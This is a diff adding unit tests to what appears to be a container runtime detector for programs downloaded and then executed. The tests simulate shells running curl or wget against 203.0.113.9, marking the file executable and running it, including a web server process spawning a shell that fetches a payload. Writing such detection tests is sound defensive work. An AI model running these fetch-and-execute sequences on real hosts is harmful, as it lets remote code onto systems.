@@ -72,6 +72,39 @@ final class DownloadedProgramDetectorTest implements DetectorContract {
     }
 
     @Test
+    void inspect_fetchedIntoTheImagesOwnFolderAndRunByAShell_isFound() {
+        Scene.Actor shell = scene.starts("/bin/bash", "bash");
+        shell.starts("/usr/bin/curl", "curl", "-o", "/app/k", "http://203.0.113.9/k");
+        shell.starts("/bin/chmod", "chmod", "+x", "/app/k");
+        shell.starts("/app/k", "/app/k");
+        assertThatFindings(findings()).show(ID, "program", "/app/k");
+    }
+
+    @Test
+    void inspect_scriptInTheImagesOwnFolder_isFound() {
+        Scene.Actor shell = scene.starts("/bin/bash", "bash");
+        startsIn(shell, "/srv", "/usr/bin/wget", "wget", "http://203.0.113.9/a.sh");
+        startsIn(shell, "/srv", "/bin/sh", "sh", "a.sh");
+        assertThatFindings(findings()).show(ID, "program", "/srv/a.sh");
+    }
+
+    @Test
+    void inspect_imagesOwnProgramAfterAFetchOfSomethingElse_isQuiet() {
+        Scene.Actor shell = scene.starts("/bin/bash", "bash");
+        shell.starts("/usr/bin/curl", "curl", "-o", "/app/data.json", "http://203.0.113.9/data.json");
+        shell.starts("/app/server", "/app/server");
+        assertThatFindings(findings()).areNone();
+    }
+
+    @Test
+    void inspect_fetchedBesideTheSystemAndRunByNoShell_isQuiet() {
+        Scene.Actor server = scene.starts("/usr/bin/supervisord", "supervisord");
+        server.starts("/usr/bin/curl", "curl", "-o", "/app/k", "http://203.0.113.9/k");
+        server.starts("/app/k", "/app/k");
+        assertThatFindings(findings()).areNone();
+    }
+
+    @Test
     void inspect_fetchedAndRunByShellsOfTheirOwn_isFound() {
         Scene.Actor server = scene.starts("/usr/sbin/php-fpm", "php-fpm: pool www");
         server.starts("/bin/sh", "sh", "-c", "curl -s http://203.0.113.9/b -o /var/tmp/b");
